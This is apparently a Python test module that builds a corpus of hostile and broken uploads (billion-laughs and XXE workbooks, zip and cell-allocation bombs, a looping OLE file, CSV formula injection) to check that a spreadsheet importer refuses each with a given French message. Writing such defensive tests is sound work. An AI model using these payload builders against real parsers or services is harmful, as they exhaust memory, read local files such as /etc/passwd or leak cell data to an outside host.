"""A corpus of hostile and broken files, generated (no binary blobs in git).

Each entry is a file a user might upload — by mistake or with intent — and what the refusal must
say (a French message, matched as a regular expression). ``python -m tests.hostile_corpus DIR``
writes them all to DIR, to try them by hand in the app or with ``python -m qep_core import``.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from qep_core.importing.safety import MAX_UPLOAD_BYTES
from tests.conftest import make_workbook

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LONG_HEADER: list[object] = ["indicateur", "période", "périmètre", "numérateur", "dénominateur"]


@dataclass(frozen=True)
class Hostile:
    name: str  # the file name, as uploaded
    build: Callable[[], bytes]
    message: str  # regular expression the refusal must match
    why: str


def base_workbook() -> bytes:
    """A valid workbook with a little data, to be tampered with."""
    return make_workbook({"Courriels": [["Courriels 2023"], LONG_HEADER, ["COURRIEL_5J", "2023-01", "", 9, 10]]})


def patched(base: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
            drop: set[str] | None = None) -> bytes:
    """*base* with members replaced, added or dropped (everything else copied as is)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if drop and info.filename in drop:
                continue
            data = (replace or {}).get(info.filename, src.read(info.filename))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def sheet_xml(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}"><sheetData>{body}'
            "</sheetData></worksheet>").encode()


def billion_laughs() -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE lolz [{''.join(levels)}]>"


def laughs_in_sheet() -> bytes:
    body = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(body, billion_laughs())})


def laughs_in_shared_strings() -> bytes:
    strings = (f'<?xml version="1.0"?>{billion_laughs()}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
               "<si><t>&lol9;</t></si></sst>").encode()
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(body)}, {"xl/sharedStrings.xml": strings})


def external_entity(member: str) -> Callable[[], bytes]:
    def build() -> bytes:
        with zipfile.ZipFile(io.BytesIO(base_workbook())) as z:
            original = z.read(member).decode()
        head, _, rest = original.partition("?>")
        xxe = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        return patched(base_workbook(), {member: f"{head}?>{xxe}{rest}".encode()})
    return build


def doctype_after_long_comment() -> bytes:
    """The DOCTYPE pushed past the first 64 KB by a comment: calamine must still refuse it."""
    pad = "<!--" + "x" * 70_000 + "-->"
    body = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(body, pad + billion_laughs())})


def huge_comment() -> bytes:
    """One huge XML comment in a sheet: openpyxl with this machine's expat stalls for minutes (FIELD-NOTES)."""
    rnd = random.Random(52425)
    text = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(1_500_000))
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(f"<!--{text}-->")})


def ratio_bomb() -> bytes:
    """60 MB of spaces in a sheet, deflated about a thousand times."""
    xml = sheet_xml('<row r="1"><c r="A1" t="n"><v>1</v></c></row>').replace(b"<sheetData>", b" " * 60_000_000 + b"<sheetData>")
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": xml})


def declared_size_bomb() -> bytes:
    """A member whose directory entry announces 4 GB: every reader would try to inflate that much."""
    data = bytearray(base_workbook())
    at = data.find(b"PK\x01\x02")  # first central directory entry
    struct.pack_into("<I", data, at + 24, 0xFFFF_FFF0)
    return bytes(data)


def many_members() -> bytes:
    return patched(base_workbook(), add={f"xl/media/m{i}.bin": b"" for i in range(10_001)})


def far_cell() -> bytes:
    """Two cells, A1 and XFD1048576: calamine would allocate 17 billion cells and abort the process."""
    body = ('<row r="1"><c r="A1" t="n"><v>1</v></c></row>'
            '<row r="1048576"><c r="XFD1048576" t="n"><v>2</v></c></row>')
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(body)})


def cells_without_references() -> bytes:
    """16 384 cells placed by rank in row 1 (no reference), one more in row 5 000."""
    first = '<row r="1">' + '<c t="n"><v>1</v></c>' * 16_384 + "</row>"
    body = first + '<row r="5000"><c r="A5000" t="n"><v>2</v></c></row>'
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(body)})


def one_cell(ref: str) -> Callable[[], bytes]:
    """One cell at *ref*: calamine materialises A1 → ref (ZZZZ1: 300 GB; A12345678: 17 GB; lower case too)."""
    return lambda: patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml(
        f'<row r="1"><c r="A1" t="n"><v>1</v></c><c r="{ref}" t="n"><v>2</v></c></row>')})


def giant_dimension() -> bytes:
    """A declared ``<dimension>`` far past the grid a spreadsheet program has."""
    xml = sheet_xml('<row r="1"><c r="A1" t="n"><v>1</v></c></row>').replace(
        b"<sheetData>", b'<dimension ref="A1:ZZZZZ99999999"/><sheetData>')
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": xml})


def sheet_not_named_xml() -> bytes:
    """The sheet part renamed ``sheet1.bin`` (its relationship follows): calamine still reads it."""
    base = base_workbook()
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        rels = z.read("xl/_rels/workbook.xml.rels").replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.bin")
    body = '<row r="1"><c r="A1" t="n"><v>1</v></c></row><row r="1048576"><c r="XFD1048576" t="n"><v>2</v></c></row>'
    return patched(base, {"xl/_rels/workbook.xml.rels": rels}, {"xl/worksheets/sheet1.bin": sheet_xml(body)},
                   drop={"xl/worksheets/sheet1.xml"})


def doctype_in_bin_part() -> bytes:
    """Entities in a sheet part whose name does not end in .xml."""
    base = sheet_not_named_xml()
    body = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return patched(base, {"xl/worksheets/sheet1.bin": sheet_xml(body, billion_laughs())})


def encrypted_far() -> bytes:
    """A password-protected workbook whose directory (naming the EncryptedPackage) lies past 1 MB."""
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"\x00" * (2 << 20)
            + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2048)


def truncated() -> bytes:
    data = base_workbook()
    return data[: len(data) * 6 // 10]


def bad_crc() -> bytes:
    """One byte of the compressed sheet flipped: the zip directory is intact, the content is not."""
    data = bytearray(base_workbook())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    data[start + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def text_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("lisez-moi.txt", "ceci n'est pas un classeur")
    return out.getvalue()


def ole(payload: bytes) -> Callable[[], bytes]:
    return lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + payload + b"\x00" * 2048


def ole_looping_directory() -> bytes:
    """A compound file whose directory chain points back to itself (FAT entry 1 → 1): a reader
    that follows it never ends, or gathers sectors until memory runs out."""
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16))
    header += struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + b"\xff" * 4 * 108  # DIFAT: the FAT is sector 0
    fat = struct.pack("<II", 0xFFFFFFFD, 1) + b"\xff" * 504
    root = "Root Entry".encode("utf-16-le").ljust(64, b"\x00") + struct.pack("<HB", 22, 5)
    return bytes(header) + fat + root.ljust(512, b"\x00")


ODS_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '</manifest:manifest>')
ODS_REPEAT_BOMB_CELL = ('<table:table-cell office:value-type="float" office:value="1" '
                        'table:number-columns-repeated="10000"/>')


def ods(table: str, name: str = "Données") -> bytes:
    """An OpenDocument spreadsheet of one table, from the XML of its rows."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               f'<table:table table:name="{name}">{table}</table:table></office:spreadsheet></office:body>'
               '</office:document-content>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST)
    return buffer.getvalue()


def ods_repeat_bomb() -> bytes:
    """Under 1 KB: one cell repeated 10 000 times across, its row 9 000 times down (90 million cells)."""
    return ods(f'<table:table-row table:number-rows-repeated="9000">{ODS_REPEAT_BOMB_CELL}</table:table-row>')


def no_sheet() -> bytes:
    workbook = f'<?xml version="1.0"?><workbook xmlns="{MAIN_NS}"><sheets></sheets></workbook>'.encode()
    return patched(base_workbook(), {"xl/workbook.xml": workbook})


def malformed_xml() -> bytes:
    return patched(base_workbook(), {"xl/worksheets/sheet1.xml": sheet_xml('<row r="1"><c r="A1" t="n"><v>1</v>')})


def uncalculated_formulas() -> bytes:
    """A long table whose counts are formulas a program wrote and nothing ever calculated."""
    rows: list[list[object]] = [["Courriels 2023"], LONG_HEADER]
    rows += [["COURRIEL_5J", f"2023-{m:02d}", "", f"=F{m + 2}-1", f"=F{m + 2}"] for m in range(1, 4)]
    return make_workbook({"Courriels": rows})


def csv(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def long_csv(*rows: str) -> Callable[[], bytes]:
    return csv("indicateur;période;périmètre;numérateur;dénominateur\n" + "\n".join(rows) + "\n")


CORPUS: list[Hostile] = [
    Hostile("vide.xlsx", lambda: b"", "le fichier est vide", "nothing uploaded"),
    Hostile("trop-gros.csv", lambda: b"a;b\n" * (MAX_UPLOAD_BYTES // 4 + 1), "dépasse la limite de 50 Mo", "size limit"),
    Hostile("bombe-ratio.xlsx", ratio_bomb, "bombe de décompression", "a member inflating 1000 times"),
    Hostile("bombe-taille-annoncee.xlsx", declared_size_bomb, r"se décompresse en \d+ Mo", "4 GB declared"),
    Hostile("dix-mille-membres.xlsx", many_members, "éléments compressés", "10 001 members"),
    Hostile("milliard-de-rires.xlsx", laughs_in_sheet, "entités XML", "billion laughs in a sheet"),
    Hostile("milliard-de-rires-chaines.xlsx", laughs_in_shared_strings, "entités XML", "in the shared strings"),
    Hostile("xxe-classeur.xlsx", external_entity("xl/workbook.xml"), "entités XML", "external entity, workbook"),
    Hostile("xxe-types.xlsx", external_entity("[Content_Types].xml"), "entités XML", "external entity, content types"),
    Hostile("xxe-relations.xlsx", external_entity("xl/_rels/workbook.xml.rels"), "entités XML", "in relationships"),
    Hostile("doctype-cache.xlsx", doctype_after_long_comment, "illisible|abîmé", "DOCTYPE past the prolog check"),
    Hostile("commentaire-geant.xlsx", huge_comment, "aucune valeur reconnue", "quadratic parse in openpyxl"),
    Hostile("cellule-lointaine.xlsx", far_cell, "s'étend jusqu'à la cellule XFD1048576", "dense-range abort"),
    Hostile("cellules-sans-reference.xlsx", cells_without_references, "s'étend jusqu'à la cellule XFD5000",
            "cells placed by rank"),
    Hostile("pas-un-classeur.xlsx", lambda: random.Random(1).randbytes(4096), "n'est pas un classeur Excel valide",
            "random bytes"),
    Hostile("rapport.xlsx", lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n", "n'est pas un classeur Excel valide",
            "a PDF renamed"),
    Hostile("photo.xlsm", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "n'est pas un classeur Excel valide", "a PNG renamed"),
    Hostile("tronque.xlsx", truncated, "tronqué ou abîmé", "download cut short"),
    Hostile("crc-faux.xlsx", bad_crc, "tronqué ou abîmé|illisible", "corrupted compressed data"),
    Hostile("archive.xlsx", text_zip, r"n'est pas un classeur Excel \(\.xlsx, \.xlsm\) ou LibreOffice \(\.ods\)", "a zip of something else"),
    Hostile("ancien.xls", ole(b"garbage" * 100), "abîmé ou tronqué", "broken OLE workbook"),
    Hostile("chaine-en-boucle.xls", ole_looping_directory, r"\.xls\) est abîmé ou tronqué", "a looping sector chain"),
    Hostile("repetitions.ods", ods_repeat_bomb, "s'étend jusqu'à la cellule NTP9000", "repeat counts over 90 M cells"),
    Hostile("protege.xlsx", ole("EncryptedPackage".encode("utf-16-le")), "protégé par un mot de passe",
            "password-protected workbook"),
    Hostile("sans-feuille.xlsx", no_sheet, "aucune feuille|abîmé", "a workbook without sheets"),
    Hostile("xml-casse.xlsx", malformed_xml, "illisible|abîmé", "malformed sheet XML"),
    Hostile("formules.xlsx", uncalculated_formulas, r"formules jamais calculées, lues comme vides : cellules D3, E3", "no cached values"),
    Hostile("binaire.csv", lambda: b"indicateur;periode\x00\x01\x02\n", "fichier binaire", "NUL bytes"),
    Hostile("encodage.csv", lambda: b"indicateur;p\x81riode\n\x8d\x8f;\x90\n", "encodage du fichier CSV non reconnu",
            "neither UTF-8 nor Windows-1252"),
    Hostile("separateurs.csv", csv(";;;\n;;;\n\n"), "ne contient aucune donnée", "only separators"),
    Hostile("champ-geant.csv", csv('indicateur;période\n"' + "x" * 200_000 + '";2023-01\n'), "CSV illisible à la ligne 2 : une cellule dépasse",
            "a field over the csv module's limit"),
    Hostile("injection.csv", long_csv('=HYPERLINK("http://exemple.invalid/?"&A1;"clic");2023-01;;9;10'),
            "indicateur inconnu", "a formula as indicator"),
    Hostile("texte.csv", long_csv("COURRIEL_5J;2023-01;;douze;20"), "douze", "text in a number column"),
    Hostile("negatif.csv", long_csv("COURRIEL_5J;2023-01;;-3;20"), "négati", "a negative count"),
    Hostile("superieur.csv", long_csv("COURRIEL_5J;2023-01;;30;20"), "dépasse le dénominateur", "numerator above denominator"),
    Hostile("mois.csv", long_csv("COURRIEL_5J;2023-13;;9;10"), "2023-13", "a month that does not exist"),
    Hostile("doublon.csv", long_csv("COURRIEL_5J;2023-01;;9;10", "COURRIEL_5J;2023-01;;8;10"), "plusieurs valeurs",
            "the same month twice"),
    Hostile("colonne-zzzz.xlsx", one_cell("ZZZZ1"), "au-delà de la dernière cellule d'un tableur",
            "a 4-letter column: 300 GB in calamine"),
    Hostile("colonne-cinq-lettres.xlsx", one_cell("ZZZZZ1"), "au-delà de la dernière cellule d'un tableur",
            "a 5-letter column: calamine hangs"),
    Hostile("ligne-lointaine.xlsx", one_cell("A12345678"), "au-delà de la dernière cellule d'un tableur",
            "an 8-digit row: 68 s and 17 GB"),
    Hostile("references-minuscules.xlsx", one_cell("xfd1048576"), "s'étend jusqu'à la cellule XFD1048576",
            "a lower-case reference calamine reads (512 GB allocation)"),
    Hostile("dimension-geante.xlsx", giant_dimension, "déclare s'étendre", "declared dimension past the grid"),
    Hostile("feuille-sans-xml.xlsx", sheet_not_named_xml, "s'étend jusqu'à la cellule XFD1048576",
            "a sheet part not named .xml (210 s, 11.5 GB)"),
    Hostile("entites-sans-xml.xlsx", doctype_in_bin_part, "entités XML", "entities in a part not named .xml"),
    Hostile("protege-loin.xlsx", encrypted_far, "protégé par un mot de passe", "encrypted, directory past 1 MB"),
    Hostile("une-ligne.csv", lambda: b"1;" * 5_000_000 + b"\n", "la ligne 1 dépasse 1024 Ko",
            "a one-line 10 MB CSV: 300 s and 12 GB"),
    Hostile("cent-mille-colonnes.csv", lambda: (b"a;" * 100_000 + b"\n") + (b"1;" * 100_000 + b"\n"),
            "100001 colonnes", "100 000 columns: 20 s of write lock"),
    Hostile("titre-seul.xlsx", lambda: make_workbook({"Feuil1": [["Suivi des courriels 2023"]]}), "aucune valeur reconnue",
            "a sheet without any table"),
]


def main(argv: list[str]) -> int:
    out = Path(argv[0] if argv else "hostile-corpus")
    out.mkdir(parents=True, exist_ok=True)
    for item in CORPUS:
        (out / item.name).write_bytes(item.build())
    print(f"{len(CORPUS)} fichiers écrits dans {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
